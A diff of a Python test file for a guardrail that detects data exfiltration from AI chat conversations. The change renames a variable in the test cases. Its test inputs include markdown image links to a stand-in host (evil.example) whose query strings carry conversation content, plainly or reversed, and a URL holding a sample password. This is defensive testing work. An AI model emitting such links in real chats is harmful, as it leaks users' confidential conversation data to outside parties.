@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 
 from gateway.guardrails.detectors.exfiltration import Conversation, find_exfiltration
 
-SAID = Conversation(
+CONVERSATION = Conversation(
     [
         "The merger with Acme closes on Friday.",
         "Mail kim@example.org; docs: https://docs.example.com/a?page=two",
@@ -76,7 +76,7 @@ def halves(text: str) -> tuple[str, str]:
     ],
 )
 def test_find_exfiltration__conversation_in_the_address__found(text: str) -> None:
-    (found,) = find_exfiltration(text, SAID)
+    (found,) = find_exfiltration(text, CONVERSATION)
     assert text[found.start : found.end].startswith(("https://", "//"))
     assert "evil.example/" in text[found.start : found.end]
 
@@ -100,27 +100,27 @@ def test_find_exfiltration__conversation_in_the_address__found(text: str) -> Non
     ],
 )
 def test_find_exfiltration__plain_address__passes(text: str) -> None:
-    assert find_exfiltration(text, SAID) == []
+    assert find_exfiltration(text, CONVERSATION) == []
 
 
 def test_find_exfiltration__same_address_in_a_link_and_in_images__each_judged_as_it_stands() -> None:
     address = "https://search.example/?q=Tr0ub4dor%263"
-    said = Conversation(["The door opens with Tr0ub4dor&3."])
+    conversation = Conversation(["The door opens with Tr0ub4dor&3."])
     for _ in range(2):
-        found = find_exfiltration(f"{address} ![x]({address}) {address} ![y]({address})", said)
+        found = find_exfiltration(f"{address} ![x]({address}) {address} ![y]({address})", conversation)
         assert [(url.form, url.start) for url in found] == [("image", 45), ("image", 131)]
 
 
 @pytest.mark.parametrize("before", range(7))
 @pytest.mark.parametrize("carried", ["merger with Acme", "emcA htiw regrem"])
-def test_find_exfiltration__much_was_said__found_wherever_it_stands(carried: str, before: int) -> None:
-    said = Conversation(["0123456789" * 500 + "x" * before + "merger with Acme", "0123456789" * 500])
-    (found,) = find_exfiltration(f"![x](https://evil.example/?d={quote(carried)})", said)
+def test_find_exfiltration__long_conversation__found_wherever_it_stands(carried: str, before: int) -> None:
+    conversation = Conversation(["0123456789" * 500 + "x" * before + "merger with Acme", "0123456789" * 500])
+    (found,) = find_exfiltration(f"![x](https://evil.example/?d={quote(carried)})", conversation)
     assert found.form == "image"
-    assert find_exfiltration("![x](https://cdn.example/?d=merger+of+equals)", said) == []
+    assert find_exfiltration("![x](https://cdn.example/?d=merger+of+equals)", conversation) == []
 
 
 @given(st.text(), st.text())
-def test_find_exfiltration__any_text__spans_are_inside(text: str, said: str) -> None:
+def test_find_exfiltration__any_text__spans_are_inside(text: str, conversation: str) -> None:
     whole = f"![a](https://e.example/?q={text}) //{text}"
-    assert all(0 <= url.start < url.end <= len(whole) for url in find_exfiltration(whole, Conversation([said])))
+    assert all(0 <= url.start < url.end <= len(whole) for url in find_exfiltration(whole, Conversation([conversation])))
